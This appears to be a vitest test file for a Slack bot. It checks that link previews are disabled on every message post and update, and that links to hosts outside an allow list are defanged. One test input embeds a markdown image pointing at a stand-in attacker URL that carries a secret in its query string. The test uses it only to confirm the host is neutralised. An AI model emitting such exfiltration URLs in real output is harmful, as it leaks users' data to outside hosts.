/**
 * Slack never previews a link in an answer: a preview is Slack fetching the URL, which
 * sends whatever the URL carries with no click at all. If this breaks, an answer (or an
 * edit of one) linking even to an allowed host would unfurl it in the thread.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createSlackPlatform } from '../../../src/bot/slack/slack-platform.ts';
import type { ThreadRef } from '../../../src/core/chat-event.ts';
import type { ChatPlatform, MessageContent } from '../../../src/core/ports/chat-platform.ts';
import { linkPolicy } from '../../../src/render/link-policy.ts';
import { toSlackMessages } from '../../../src/render/slack-blocks.ts';
import { startFakeSlack, type FakeSlack } from '../../fakes/slack/fake-slack.ts';

const TEAM = 'T0KOTAE';
const thread: ThreadRef = {
  platform: 'slack',
  workspaceId: TEAM,
  channelId: 'C1',
  threadId: '1767000000.000001',
};
const links = linkPolicy(['kotae.example']);

let slack: FakeSlack;
let platform: ChatPlatform;

beforeEach(async () => {
  slack = await startFakeSlack();
  const token = slack.addBot(TEAM);
  platform = createSlackPlatform({
    tokenFor: async () => token,
    slackApiUrl: slack.apiUrl,
    render: (content) => toSlackMessages(content, { links }),
  });
});

afterEach(async () => {
  await slack.close();
});

const reply = (text: string): MessageContent => ({
  kind: 'reply',
  reply: { kind: 'answer', locale: 'en', text },
});

describe('link previews in Slack', () => {
  it('are off on every post and every update, and only allowed hosts are links', async () => {
    const ref = await platform.post(thread, reply('See [the console](https://kotae.example/c) first'));
    await platform.update(
      ref,
      reply('See ![x](https://evil.example/collect?d=SECRET) and https://kotae.example/c'),
    );
    const calls = [...slack.calls('chat.postMessage'), ...slack.calls('chat.update')];
    expect(calls.map((call) => call.method)).toEqual(['chat.postMessage', 'chat.update']);
    for (const call of calls) {
      expect(String(call.params['unfurl_links']), call.method).toBe('false');
      expect(String(call.params['unfurl_media']), call.method).toBe('false');
    }
    const updated = JSON.stringify(calls[1]!.params);
    expect(updated).not.toContain('evil.example');
    expect(updated).toContain('evil[.]example');
    expect(updated).toContain('<https://kotae.example/c>');
  });
});
